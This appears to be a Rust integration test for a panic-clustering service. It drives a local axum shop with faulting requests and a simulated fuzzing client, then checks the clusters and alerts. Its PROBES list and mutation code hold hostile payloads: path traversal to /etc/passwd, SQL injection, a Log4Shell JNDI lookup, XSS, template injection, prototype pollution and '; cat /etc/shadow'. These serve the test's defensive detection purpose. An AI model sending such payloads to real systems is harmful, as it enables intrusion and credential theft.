//! The axum example as a process of its own: real HTTP requests, real panics, a real broker, and the service behind it.
//!
//! `PANICSIFT_TEST_AXUM_PRODUCER=FILE` names a built `shop`; without it the test builds one below `target/producers`.

use std::collections::{BTreeMap, BTreeSet};
use std::io::{BufRead, BufReader};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};

use panicsift::pipeline::event::Millis;
use serde_json::{Value, json};

use crate::support::kafka::{Sent, Stored, produce_at, read_back};
use crate::support::servers::{live_address, say};
use crate::support::service::{Fates, Place, epoch_begins, panicsift};

/// Somebody who feels for the edge, without an account.
const FUZZER: &str = "104.166.24.98";
/// A customer whose program has one fault and tries again and again.
const CUSTOMER: &str = "100.50.20.32";
/// Honest customers who make a slip each: what is normal here.
const N_OTHERS: u8 = 40;

/// The shop, built; the first build of the crate takes minutes, for librdkafka.
#[expect(clippy::disallowed_methods, reason = "whoever has built it says where it is")]
fn shop() -> PathBuf {
    if let Some(built) = std::env::var_os("PANICSIFT_TEST_AXUM_PRODUCER") {
        return built.into();
    }
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let target = root.join("target/producers");
    say("building deploy/producers/axum; the first time takes minutes");
    let built = Command::new(env!("CARGO"))
        .args(["build", "--quiet", "--locked", "--example", "shop", "--features", "kafka", "--manifest-path"])
        .arg(root.join("deploy/producers/axum/Cargo.toml"))
        .arg("--target-dir")
        .arg(&target)
        .status();
    assert!(built.unwrap().success());
    target.join("debug/examples/shop")
}

/// The shop as a process; killed when the value is dropped.
struct Shop {
    child: Child,
    url: String,
    client: reqwest::Client,
    said: BufReader<std::process::ChildStdout>,
}

impl Shop {
    fn start(place: &Place) -> Self {
        let mut child = Command::new(shop())
            .env("BROKERS", &place.brokers)
            .env("TOPIC", &place.topic)
            .env("LISTEN", "127.0.0.1:0")
            .env("PROXIES", "1")
            .env("TOKEN_KEY", "a secret of the live tests")
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(std::fs::File::create(place.path("shop.log")).unwrap())
            .spawn()
            .unwrap();
        let mut said = BufReader::new(child.stdout.take().unwrap());
        let mut line = String::new();
        said.read_line(&mut line).unwrap();
        let address = line.trim().strip_prefix("listening on ").unwrap();
        // Another test may have installed it.
        drop(rustls::crypto::ring::default_provider().install_default());
        let client = reqwest::Client::builder().no_proxy().build().unwrap();
        Self { child, url: format!("http://{address}"), client, said }
    }

    /// Sends a request as `from`; the status of the answer, and whether its body came whole.
    async fn send(&self, from: &str, (method, path, body): (&str, &str, &str)) -> (u16, bool) {
        let method = reqwest::Method::from_bytes(method.as_bytes()).unwrap();
        let request = self.client.request(method, format!("{}{path}", self.url)).body(body.to_owned());
        let request = request.header("x-forwarded-for", format!("198.51.100.1, {from}"));
        let request = request.header("content-type", "application/json");
        // Customers have an account.
        let token = (from != FUZZER).then(|| format!("Bearer token of {from}"));
        let request = token.into_iter().fold(request, |request, token| request.header("authorization", token));
        let answer = request.send().await.unwrap();
        (answer.status().as_u16(), answer.bytes().await.is_ok())
    }

    /// SIGTERM; what it says at its end.
    fn stop(&mut self) -> String {
        assert!(Command::new("kill").args(["-TERM", &self.child.id().to_string()]).status().unwrap().success());
        let mut last = String::new();
        self.said.read_line(&mut last).unwrap();
        assert!(self.child.wait().unwrap().success());
        last
    }
}

impl Drop for Shop {
    fn drop(&mut self) {
        // It may have ended already.
        drop(self.child.kill());
        drop(self.child.wait());
    }
}

/// A request that each handler answers with a panic, its status, and words of the panic's message.
const FAULTS: [((&str, &str, &str), u16, &str); 9] = [
    (("POST", "/v1/orders", "{\"items\": ["), 500, "EOF while parsing a list"),
    (("POST", "/v1/orders", "{\"items\": []}"), 500, "a quantity"),
    (("POST", "/v1/prices", "{\"quantity\": 70000, \"unit_price_cents\": 70000}"), 500, "multiply with overflow"),
    (("GET", "/v1/products/3", ""), 500, "the len is 3 but the index is 3"),
    (("GET", "/v1/search?q=Chaise-%C3%BCber", ""), 500, "not a char boundary"),
    (("GET", "/v1/report?days=0", ""), 500, "JoinError::Panic"),
    (("GET", "/v1/export", ""), 200, "`None` value"),
    (
        ("POST", "/v1/coupons", "AUTUMN-AUTUMN-AUTUMN-AUTUMN-AUTUMN-AUTUMN-AUTUMN-AUTUMN-AUTUMN-AUTUMN"),
        500,
        "a coupon of 69",
    ),
    (("POST", "/v1/coupons", "AUTUMN"), 500, "PoisonError"),
];

/// Words of one who looks for the edge.
const PROBES: [&str; 12] = [
    "../../../../etc/passwd",
    "' OR '1'='1' --",
    "${jndi:ldap://198.51.100.7/a}",
    "<script>alert(1)</script>",
    "{{7*7}}",
    "%00%0d%0a",
    "; cat /etc/shadow",
    "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
    "-1",
    "99999999999999999999",
    "\\u0000",
    "${7*7}#{7*7}",
];

/// Bodies and paths mutated as fuzzers do: cut, nested, of other types, with foreign words in every place.
fn mutations() -> Vec<(&'static str, String, String)> {
    let post = |path: &str, body: String| ("POST", path.to_owned(), body);
    let quoted = |word: &str| Value::from(word).to_string();
    let mut all = Vec::new();
    for (n, word) in PROBES.iter().enumerate() {
        let word = quoted(word);
        all.push(post("/v1/orders", format!("{{\"items\":[{{\"quantity\":{word}}}]}}")));
        all.push(post("/v1/orders", format!("{{\"items\":{word},\"__proto__\":{{\"admin\":true}}}}")));
        all.push(post("/v1/orders", format!("{{{word}:[{}", "[".repeat(n))));
        all.push(post("/v1/orders", format!("{{\"items\":[{{\"sku\":{word},\"quantity\":-{n}}}],\"x{n}\":null}}")));
        all.push(post(
            "/v1/prices",
            format!("{{\"quantity\":{},\"unit_price_cents\":99999{n},\"a\":{word}}}", 70_000 + n),
        ));
        all.push(post("/v1/prices", format!("{{\"quantity\":9999999999{n},\"k{n}\":{word}}}")));
        all.push(("GET", format!("/v1/products/{}?debug={n}", 10_usize.pow(u32::try_from(n).unwrap())), String::new()));
        all.push(("GET", format!("/v1/search?q=%3Cscript%C3%BC%3E{n}&x{n}=..%2F..%2Fetc%2Fpasswd"), String::new()));
    }
    all
}

/// Each record is valid, keyed by its client and headed as the convention says; the events by client.
fn events(place: &Place) -> BTreeMap<String, Vec<Value>> {
    let schema = std::fs::read(Path::new(env!("CARGO_MANIFEST_DIR")).join("schemas/panic-event.v1.json")).unwrap();
    let schema = jsonschema::validator_for(&serde_json::from_slice(&schema).unwrap()).unwrap();
    let mut events: BTreeMap<String, Vec<Value>> = BTreeMap::new();
    for Stored { key, value, headers } in read_back(&place.brokers, &place.topic) {
        let event: Value = serde_json::from_slice(&value).unwrap();
        let faults: Vec<String> = schema.iter_errors(&event).map(|fault| fault.to_string()).collect();
        assert!(faults.is_empty(), "{faults:?} in {event:#}");
        assert_eq!(event["client"]["ip"], key.as_str());
        assert_eq!(headers["content-type"], "application/json");
        assert_eq!(headers["panicsift-carrier"], "canonical");
        assert!(!String::from_utf8_lossy(&value).contains("token of"), "a token is told by its name only");
        events.entry(key).or_default().push(event);
    }
    events
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn live_axum_service_panics_come_out_as_clusters_and_a_fuzzing_client_as_an_alert() {
    const NAME: &str = "live_axum_service_panics_come_out_as_clusters_and_a_fuzzing_client_as_an_alert";
    let Some(brokers) = live_address("PANICSIFT_TEST_KAFKA", NAME) else { return };
    let place = Place::new(&brokers, 1, 500, "").await;
    let mut shop = Shop::start(&place);
    let mut service = place.start();
    service.ready().await;

    // What is well is not told, whoever sends it.
    for path in ["/v1/products/1", "/v1/search?q=chair", "/v1/report?days=7"] {
        assert_eq!(shop.send(CUSTOMER, ("GET", path, "")).await, (200, true));
    }
    let good = json!({"items": [{"sku": "KIT-1", "quantity": 2}]}).to_string();
    assert_eq!(shop.send(CUSTOMER, ("POST", "/v1/orders", &good)).await, (200, true));
    assert_eq!(shop.send(CUSTOMER, ("GET", "/nowhere", "")).await, (404, true));

    epoch_begins().await;
    let mut told: BTreeMap<String, usize> = BTreeMap::new();
    let mut tell = |client: &str, n: usize| *told.entry(client.to_owned()).or_default() += n;
    let first = "223.177.106.250";
    for (request, status, _) in FAULTS {
        let answer = shop.send(first, request).await;
        assert_eq!(answer, (status, status != 200), "{request:?}");
        // The task of the report tells of itself, and so does the handler that waits for it.
        tell(first, if request.1.contains("report") { 2 } else { 1 });
    }
    for n in 0..N_OTHERS {
        let other = format!("81.2.69.{n}");
        let slips = [
            ("POST", "/v1/orders", format!("{{\"items\":[{{\"sku\":\"KIT-{n}\"}}]}}")),
            ("POST", "/v1/prices", format!("{{\"quantity\":7{n:04},\"unit_price_cents\":70000}}")),
            ("GET", "/v1/products/7", String::new()),
        ];
        for (method, path, body) in &slips {
            assert_eq!(shop.send(&other, (method, path, body)).await.0, 500);
            tell(&other, 1);
        }
    }
    let order = json!({"items": [{"sku": "KIT-7", "quantity": "2"}], "note": "gift"}).to_string();
    for _ in 0..25 {
        assert_eq!(shop.send(CUSTOMER, ("POST", "/v1/orders", &order)).await.0, 500);
        tell(CUSTOMER, 1);
    }
    for (method, path, body) in mutations() {
        let (status, _) = shop.send(FUZZER, (method, &path, &body)).await;
        tell(FUZZER, usize::from(status == 500));
    }
    assert!(told[FUZZER] > 60, "{told:?}");
    let n_told: usize = told.values().sum();
    assert_eq!(shop.stop().trim(), format!("{n_told} events sent, 0 dropped"));

    let events = events(&place);
    assert_eq!(events.iter().map(|(client, events)| (client.clone(), events.len())).collect::<BTreeMap<_, _>>(), told);
    for (request, status, words) in FAULTS {
        let is_it = |event: &&Value| event["panic"]["message"].as_str().unwrap().contains(words);
        let event = events[first].iter().find(is_it).unwrap_or_else(|| panic!("no event says {words}"));
        assert_eq!((&event["method"], &event["status"]), (&json!(request.0), &json!(status)));
        assert_eq!(event["panic"]["file"], "examples/shop/main.rs", "{event:#}");
    }

    close_epochs(&place, &events[FUZZER]).await;
    let n_told = n_told as u64;
    service.wait("to cluster all events", |_| place.n_events_clustered() == n_told).await;
    assert_eq!(service.metrics().fates(), Fates { observed: n_told + 1, ..Fates::default() });
    // An epoch may end between the honest clients and the fuzzing one: an alert that is there may not yet be the one.
    service.wait("to alert of the fuzzing client", |_| alerted_addresses(&place).contains(FUZZER)).await;
    assert_eq!(service.stop().await, Some(0));
    assert_clusters(&place);
    assert_alerts(&place);
}

/// Sends an event of the minute after the last one: event time goes on, and what went before is clustered and judged
/// at once instead of after a minute of silence.
async fn close_epochs(place: &Place, events: &[Value]) {
    let last = Millis::parse(events.last().unwrap()["ts"].as_str().unwrap()).unwrap();
    let later = last.plus(Millis::MINUTE);
    let event = json!({"event_id": "later", "ts": later.to_string(), "service": "clock", "panic": {"message": "tick"}});
    let record = Sent { partition: 0, time: last.0, value: event.to_string().into_bytes() };
    produce_at(&place.brokers, &place.topic, &[record]).await;
}

/// Every route that panicked is in a cluster of the report.
fn assert_clusters(place: &Place) {
    let store = place.store();
    let told = panicsift(&["report", "export", "--format", "json", "--store", store.to_str().unwrap()]);
    let clusters: Vec<Value> = told.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    let names = |key: &str| -> BTreeSet<String> {
        let all = clusters.iter().flat_map(|cluster| cluster[key].as_array().unwrap());
        all.map(|one| one["name"].as_str().unwrap().to_owned()).collect()
    };
    let routes = names("routes");
    for (request, ..) in FAULTS {
        let path = request.1.split(['?', '3']).next().unwrap();
        let known = |route: &String| route.starts_with(&format!("{} {path}", request.0));
        assert!(routes.iter().any(known), "{request:?} in {routes:?}");
    }
    assert!(names("services").contains("storefront-api"));
}

/// Every address that an alert names.
fn alerted_addresses(place: &Place) -> BTreeSet<String> {
    let named = |alert: Value| -> Vec<String> { serde_json::from_value(alert["addresses"].clone()).unwrap() };
    place.alerts().into_iter().flat_map(named).collect()
}

/// The fuzzing client is in an alert, and the customer who repeats an honest mistake is not.
fn assert_alerts(place: &Place) {
    let alerts = place.alerts();
    let addresses = alerted_addresses(place);
    assert!(addresses.contains(FUZZER), "{alerts:#?}");
    assert!(!addresses.contains(CUSTOMER), "{alerts:#?}");
    assert!(alerts.iter().all(|alert| alert["verdict"] == "hostile"), "{alerts:#?}");
}
